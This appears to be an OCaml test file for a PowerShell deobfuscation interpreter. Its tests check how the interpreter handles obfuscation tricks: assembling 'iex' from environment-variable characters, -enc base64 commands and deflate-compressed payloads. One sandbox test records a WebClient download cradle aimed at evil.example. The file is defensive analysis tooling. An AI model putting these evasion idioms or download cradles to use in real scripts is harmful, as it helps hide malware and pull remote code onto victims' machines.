@@ -1,0 +1,297 @@
+(* Tests for the interpreter: PowerShell semantics the recovery code
+   depends on. *)
+
+module Value = Psvalue.Value
+
+let check_s = Alcotest.(check string)
+let check_b = Alcotest.(check bool)
+let check_i = Alcotest.(check int)
+
+let eval ?(mode = Pseval.Env.Recovery) src =
+  let env = Pseval.Env.create ~mode () in
+  match Pseval.Interp.invoke_piece env src with
+  | Ok v -> v
+  | Error msg -> Alcotest.fail (src ^ " -> " ^ msg)
+
+let eval_err ?(mode = Pseval.Env.Recovery) src =
+  let env = Pseval.Env.create ~mode () in
+  match Pseval.Interp.invoke_piece env src with
+  | Ok v -> Alcotest.fail (Format.asprintf "expected error, got %a" Value.pp v)
+  | Error msg -> msg
+
+let eval_str src = Value.to_string (eval src)
+let eval_int src = Value.to_int (eval src)
+
+(* ---------- string / arithmetic coercions ---------- *)
+
+let test_concat () =
+  check_s "str+str" "hello" (eval_str "'he'+'llo'");
+  check_s "str+int" "a1" (eval_str "'a' + 1");
+  check_s "char+char" "hi" (eval_str "[char]104 + [char]105");
+  check_i "int+str coerces rhs" 10 (eval_int "5 + '5'")
+
+let test_arithmetic () =
+  check_i "mul" 15 (eval_int "5 * 3");
+  check_s "string replication" "ababab" (eval_str "'ab' * 3");
+  check_i "mod" 2 (eval_int "17 % 5");
+  check_i "div exact" 4 (eval_int "8 / 2");
+  check_b "div inexact is float" true
+    (match eval "7 / 2" with Value.Float f -> f = 3.5 | _ -> false);
+  check_s "division by zero" "operator error: division by zero" (eval_err "1/0")
+
+let test_hex_string_conversion () =
+  (* '0x4B' converts to 75 — the -bxor '0x4B' idiom *)
+  check_i "hex string" 75 (eval_int "1 * '0x4B'");
+  check_i "bxor hex" 40 (eval_int "99 -bxor '0x4B'")
+
+let test_format_operator () =
+  check_s "reorder" "write-host hello"
+    (eval_str {|"{2}{0}{1}" -f 'ost h', 'ello', 'write-h'|});
+  check_s "repeat index" "aba" (eval_str {|"{0}{1}{0}" -f 'a', 'b'|});
+  check_s "escaped braces" "{x}" (eval_str {|"{{{0}}}" -f 'x'|});
+  check_s "padding" "  7" (eval_str {|"{0,3}" -f 7|});
+  check_s "hex format" "FF" (eval_str {|"{0:X2}" -f 255|})
+
+let test_range_and_index () =
+  check_s "range join" "12345" (eval_str "(1..5) -join ''");
+  check_s "reverse index" "olleh" (eval_str "-join ('hello'[-1..-5])");
+  check_s "index array" "Iex" (eval_str "$env:comspec[4,24,25] -join ''");
+  check_b "out of range is null" true (eval "'abc'[99]" = Value.Null);
+  check_s "pshome trick" "iex" (eval_str "$pshome[4]+$pshome[30]+'x'")
+
+let test_split_join () =
+  check_s "split rejoin" "a|b|c" (eval_str "('a,b,c' -split ',') -join '|'");
+  check_s "chained split" "ab" (eval_str "(('a~b' -split '~') -split 'x') -join ''");
+  check_s "unary split" "3" (eval_str "(-split 'a b  c').Length");
+  check_s "unary join" "abc" (eval_str "-join ('a','b','c')");
+  check_s "method split" "2" (eval_str "'a:b'.Split(':').Length")
+
+let test_replace_ops () =
+  check_s "-replace regex" "aXc" (eval_str "'abc' -replace 'b','X'");
+  check_s "-replace caseless" "X" (eval_str "'A' -replace 'a','X'");
+  check_s "-creplace case sensitive" "A" (eval_str "'A' -creplace 'a','X'");
+  check_s ".Replace ordinal" "heLLo" (eval_str "'hello'.Replace('ll','LL')");
+  check_s ".Replace case-sensitive" "hello" (eval_str "'hello'.Replace('LL','XX')")
+
+let test_comparisons () =
+  check_b "eq caseless" true (Value.to_bool (eval "'ABC' -eq 'abc'"));
+  check_b "ceq sensitive" false (Value.to_bool (eval "'ABC' -ceq 'abc'"));
+  check_b "lt" true (Value.to_bool (eval "1 -lt 2"));
+  check_b "like wildcard" true (Value.to_bool (eval "'hello.ps1' -like '*.ps1'"));
+  check_b "match regex" true (Value.to_bool (eval "'abc123' -match '\\d+'"));
+  check_s "array filter" "2" (eval_str "((1,2,3) -eq 2) -join ''");
+  check_b "contains" true (Value.to_bool (eval "(1,2,3) -contains 2"));
+  check_b "in" true (Value.to_bool (eval "2 -in (1,2,3)"))
+
+let test_logical_shortcircuit () =
+  (* rhs must not evaluate when lhs decides *)
+  check_b "and shortcircuit" false
+    (Value.to_bool (eval "($false) -and ($undefined_variable)"));
+  check_b "or shortcircuit" true
+    (Value.to_bool (eval "($true) -or ($undefined_variable)"))
+
+let test_bitwise () =
+  check_i "band" 8 (eval_int "12 -band 10");
+  check_i "bor" 14 (eval_int "12 -bor 10");
+  check_i "bxor" 6 (eval_int "12 -bxor 10");
+  check_i "shl" 8 (eval_int "1 -shl 3");
+  check_i "shr" 2 (eval_int "16 -shr 3")
+
+let test_variables_and_scope () =
+  check_s "assign read" "xy" (eval_str "$a = 'x'; $b = $a + 'y'; $b");
+  check_i "compound" 7 (eval_int "$i = 3; $i += 4; $i");
+  check_i "increment" 6 (eval_int "$i = 5; $i++; $i");
+  check_s "env variable" "C:\\WINDOWS\\system32\\cmd.exe" (eval_str "$env:comspec");
+  check_b "undefined errors in recovery" true
+    (String.length (eval_err "$nope") > 0);
+  check_b "undefined is null in sandbox" true
+    (let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox () in
+     match Pseval.Interp.invoke_piece env "$nope" with
+     | Ok Value.Null -> true
+     | _ -> false)
+
+let test_expandable_strings () =
+  check_s "interpolation" "v=5" (eval_str "$x = 5; \"v=$x\"");
+  check_s "subexpr" "r:3" (eval_str "\"r:$(1+2)\"");
+  check_s "env in string" "home C:\\Users\\user" (eval_str "\"home $env:userprofile\"");
+  check_s "single quotes do not expand" "$x" (eval_str "'$x'")
+
+let test_casts () =
+  check_s "char of int" "h" (eval_str "[char]104");
+  check_s "string of char" "'" (eval_str "[string][char]39");
+  check_i "int of string" 42 (eval_int "[int]'42'");
+  check_s "char array" "5" (eval_str "([char[]]'hello').Length");
+  check_b "bool" true (Value.to_bool (eval "[bool]1"));
+  check_b "unknown cast errors" true (String.length (eval_err "[madeuptype]'x'") > 0)
+
+let test_statics () =
+  check_s "frombase64+unicode" "hello"
+    (eval_str "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABlAGwAbABvAA=='))");
+  check_s "ascii getstring" "hi"
+    (eval_str "[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('aGk='))");
+  check_i "toint32 radix" 104 (eval_int "[convert]::ToInt32('1101000',2)");
+  check_i "toint32 hex" 255 (eval_int "[convert]::ToInt32('ff',16)");
+  check_s "string join" "a-b" (eval_str "[string]::Join('-', ('a','b'))");
+  check_s "tobase64" "aGk=" (eval_str "[Convert]::ToBase64String([Text.Encoding]::ASCII.GetBytes('hi'))");
+  check_s "array reverse" "cba"
+    (eval_str "$a = [char[]]'abc'; [array]::Reverse($a); $a -join ''")
+
+let test_string_methods () =
+  check_s "substring" "ell" (eval_str "'hello'.Substring(1,3)");
+  check_s "toupper" "HI" (eval_str "'hi'.ToUpper()");
+  check_s "tochararray join" "h.i" (eval_str "'hi'.ToCharArray() -join '.'");
+  check_i "length" 5 (eval_int "'hello'.Length");
+  check_i "indexof caseless" 1 (eval_int "'hello'.IndexOf('E')");
+  check_b "startswith prefix test" true
+    (Value.to_bool (eval "'-encodedcommand'.StartsWith('-enc')"));
+  check_s "trim" "x" (eval_str "'  x  '.Trim()");
+  check_s "padleft" "  x" (eval_str "'x'.PadLeft(3)");
+  check_s "insert" "abXcd" (eval_str "'abcd'.Insert(2,'X')")
+
+let test_pipeline_foreach () =
+  check_s "foreach-object" "cst"
+    (eval_str "('99,115,116' -split ',' | ForEach-Object { [char][int]$_ }) -join ''");
+  check_s "percent alias" "246" (eval_str "(1,2,3 | % { $_ * 2 }) -join ''");
+  check_s "where-object" "13" (eval_str "(1,2,3 | Where-Object { $_ -ne 2 }) -join ''");
+  check_i "select first" 2 (eval_int "(1,2,3 | Select-Object -First 2).Length";);
+  check_s "sort" "123" (eval_str "(3,1,2 | Sort-Object) -join ''")
+
+let test_iex () =
+  check_i "iex string" 42 (eval_int "iex '40 + 2'");
+  check_i "iex pipeline" 9 (eval_int "'3 * 3' | iex");
+  check_i "call operator" 7 (eval_int "& ('ie'+'x') '3+4'");
+  check_i "dot call" 8 (eval_int ". ($pshome[4]+$pshome[30]+'x') '4+4'");
+  check_b "iex depth limited" true
+    (String.length (eval_err "$s = 'iex $s'; iex $s") > 0)
+
+let test_powershell_enc () =
+  let b64 = Encoding.Base64.encode (Encoding.Utf16.encode "5 * 5") in
+  check_i "enc" 25 (eval_int ("powershell -enc " ^ b64));
+  check_i "autocompleted param" 25 (eval_int ("powershell -EnCoDeDCommand " ^ b64));
+  check_i "command param" 12 (eval_int "powershell -Command '6 + 6'")
+
+let test_functions () =
+  check_i "define and call" 9 (eval_int "function add($a, $b) { return $a + $b }; add 4 5");
+  check_i "args array" 3 (eval_int "function n { $args.Count }; n 1 2 3");
+  check_s "scriptblock invoke" "hi" (eval_str "$sb = { 'hi' }; $sb.Invoke()");
+  check_i "scriptblock create" 5 (eval_int "[scriptblock]::Create('2 + 3').Invoke()")
+
+let test_control_flow_eval () =
+  check_s "if else" "b" (eval_str "if (1 -gt 2) { 'a' } else { 'b' }");
+  check_i "while" 10 (eval_int "$i = 0; while ($i -lt 10) { $i++ }; $i");
+  check_s "foreach stmt" "abc" (eval_str "$out = ''; foreach ($c in 'a','b','c') { $out += $c }; $out");
+  check_i "for" 6 (eval_int "$s = 0; for ($i = 1; $i -le 3; $i++) { $s += $i }; $s");
+  check_s "switch" "two" (eval_str "switch (2) { 1 { 'one' } 2 { 'two' } default { 'other' } }");
+  check_s "try catch" "caught" (eval_str "try { throw 'x' } catch { 'caught' }");
+  check_s "break" "12" (eval_str "$o=''; foreach ($i in 1..9) { if ($i -gt 2) { break }; $o += $i }; $o");
+  check_s "continue" "13" (eval_str "$o=''; foreach ($i in 1..3) { if ($i -eq 2) { continue }; $o += $i }; $o")
+
+let test_securestring_marshal () =
+  check_s "plaintext roundtrip" "secret"
+    (eval_str
+       "[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(('secret' | ConvertTo-SecureString -AsPlainText -Force)))");
+  check_s "key blob roundtrip" "payload"
+    (eval_str
+       "$blob = ('payload' | ConvertTo-SecureString -AsPlainText -Force | ConvertFrom-SecureString); [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString -String $blob -Key (0..31))))")
+
+let test_deflate_stream () =
+  let payload = "write-output 'inflated'" in
+  let b64 = Encoding.Base64.encode (Encoding.Deflate.deflate payload) in
+  check_s "deflate pipeline" payload
+    (eval_str
+       (Printf.sprintf
+          "(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('%s'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
+          b64))
+
+let test_side_effects_blocked_in_recovery () =
+  check_b "download blocked" true
+    (String.length (eval_err "(New-Object Net.WebClient).DownloadString('http://x')") > 0);
+  check_b "sleep blocked" true (String.length (eval_err "Start-Sleep 5") > 0);
+  check_b "process blocked" true (String.length (eval_err "Start-Process calc") > 0)
+
+let test_side_effects_recorded_in_sandbox () =
+  let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox () in
+  (match
+     Pseval.Interp.run_script env
+       "(New-Object Net.WebClient).DownloadString('http://evil.example/x') | Out-Null\nStart-Sleep 1"
+   with
+  | Ok _ -> ()
+  | Error e -> Alcotest.fail e);
+  let events = List.map Pseval.Env.event_to_string (Pseval.Env.events env) in
+  check_b "http event" true
+    (List.mem "http-get:http://evil.example/x" events);
+  check_b "sleep event" true (List.mem "sleep:1" events)
+
+let test_step_budget () =
+  let limits = { Pseval.Env.default_limits with Pseval.Env.max_steps = 1000 } in
+  let env = Pseval.Env.create ~limits () in
+  check_b "infinite loop bounded" true
+    (match Pseval.Interp.run_script env "while ($true) { $i++ }" with
+    | Error _ -> true
+    | Ok _ -> false)
+
+let test_output_semantics () =
+  check_b "assignment silent" true (eval "$x = 5" = Value.Null);
+  check_s "multiple outputs collect" "1 2"
+    (Value.to_string (eval "1; 2"));
+  check_s "write-output passthrough" "7" (eval_str "write-output 7");
+  check_b "out-null swallows" true (eval "5 | out-null" = Value.Null)
+
+let test_multiple_assignment () =
+  check_s "two targets" "ab" (eval_str "$a, $b = 'a', 'b'; $a + $b")
+
+let test_named_blocks () =
+  check_s "begin/process/end" "1 2 done"
+    (eval_str
+       "function f { begin { $n = 0 } process { $_ } end { 'done' } }\n(1,2 | f) -join ' '")
+
+let test_split_count () =
+  check_s "split with count" "a|b,c" (eval_str "('a,b,c' -split ',',2) -join '|'");
+  check_s "split unlimited" "a|b|c" (eval_str "('a,b,c' -split ',') -join '|'")
+
+let test_math_statics () =
+  check_i "round" 4 (eval_int "[math]::Round(3.7)");
+  check_i "min" 2 (eval_int "[math]::Min(2, 9)");
+  check_i "max" 9 (eval_int "[math]::Max(2, 9)")
+
+let test_url_decode_statics () =
+  check_s "unescape" "write-host hi"
+    (eval_str "[uri]::UnescapeDataString('write%2Dhost%20hi')");
+  check_s "urldecode" "a b" (eval_str "[Net.WebUtility]::UrlDecode('a%20b')");
+  check_s "escape roundtrip" "x&y"
+    (eval_str "[uri]::UnescapeDataString([uri]::EscapeDataString('x&y'))")
+
+let suite =
+  [
+    ("concat coercions", `Quick, test_concat);
+    ("arithmetic", `Quick, test_arithmetic);
+    ("hex string conversion", `Quick, test_hex_string_conversion);
+    ("format operator", `Quick, test_format_operator);
+    ("range and index", `Quick, test_range_and_index);
+    ("split/join", `Quick, test_split_join);
+    ("replace ops", `Quick, test_replace_ops);
+    ("comparisons", `Quick, test_comparisons);
+    ("logical shortcircuit", `Quick, test_logical_shortcircuit);
+    ("bitwise", `Quick, test_bitwise);
+    ("variables and scope", `Quick, test_variables_and_scope);
+    ("expandable strings", `Quick, test_expandable_strings);
+    ("casts", `Quick, test_casts);
+    ("statics", `Quick, test_statics);
+    ("string methods", `Quick, test_string_methods);
+    ("pipelines", `Quick, test_pipeline_foreach);
+    ("invoke-expression", `Quick, test_iex);
+    ("powershell -enc", `Quick, test_powershell_enc);
+    ("functions", `Quick, test_functions);
+    ("control flow", `Quick, test_control_flow_eval);
+    ("securestring marshal", `Quick, test_securestring_marshal);
+    ("deflate stream", `Quick, test_deflate_stream);
+    ("recovery blocks side effects", `Quick, test_side_effects_blocked_in_recovery);
+    ("sandbox records side effects", `Quick, test_side_effects_recorded_in_sandbox);
+    ("step budget", `Quick, test_step_budget);
+    ("output semantics", `Quick, test_output_semantics);
+    ("multiple assignment", `Quick, test_multiple_assignment);
+    ("named blocks", `Quick, test_named_blocks);
+    ("split count", `Quick, test_split_count);
+    ("math statics", `Quick, test_math_statics);
+    ("url decode statics", `Quick, test_url_decode_statics);
+  ]
